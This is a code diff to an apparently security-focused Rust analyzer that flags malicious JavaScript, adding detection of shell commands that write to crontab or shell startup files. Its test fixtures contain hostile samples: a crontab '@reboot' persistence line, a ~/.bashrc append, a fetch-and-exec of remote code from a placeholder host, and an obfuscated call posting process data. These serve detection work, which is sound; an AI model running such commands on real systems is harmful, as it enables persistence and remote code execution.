@@ -1818,6 +1818,12 @@ impl<'s> Analyzer<'s> {
             }
             let t = data_taint;
             self.push_flow(t, "process", &name, command.clone(), call.span);
+            // `echo ... >> ~/.bashrc`, `| crontab -`: the shell writes files.
+            if let Some(cmd) = &command {
+                for target in classify::command_writes(cmd) {
+                    self.path_fact(&target, call.span, true);
+                }
+            }
             let cmd_taint = args.first().map_or(0, |a| self.taint(a, 0));
             // Received data as the program itself is remote code; as an
             // argument of a fixed program (`open "<url>"`) it is not.
@@ -3254,6 +3260,19 @@ got[_0xw(0x0,0x13)](_0xd(0x12),{json:process[_0xd(0x11)]});
             "const { exec } = require('child_process');\nfetch('https://x.invalid/a').then((r) => r.text()).then((d) => exec(d));",
         );
         assert_eq!(f.decode_run[0].decoder, "remote");
+    }
+
+    #[test]
+    fn shell_redirections_and_crontab_are_writes() {
+        let f = facts(
+            "const { execSync } = require('child_process');\nexecSync(\"(crontab -l; echo '@reboot /tmp/.x') | crontab -\");\nexecSync('echo x >> ~/.bashrc');\nexecSync('ls > /dev/null');",
+        );
+        let written: Vec<&str> = f
+            .files_written
+            .iter()
+            .map(|w| w.category.as_str())
+            .collect();
+        assert_eq!(written, ["crontab", "shell-rc"]);
     }
 
     #[test]
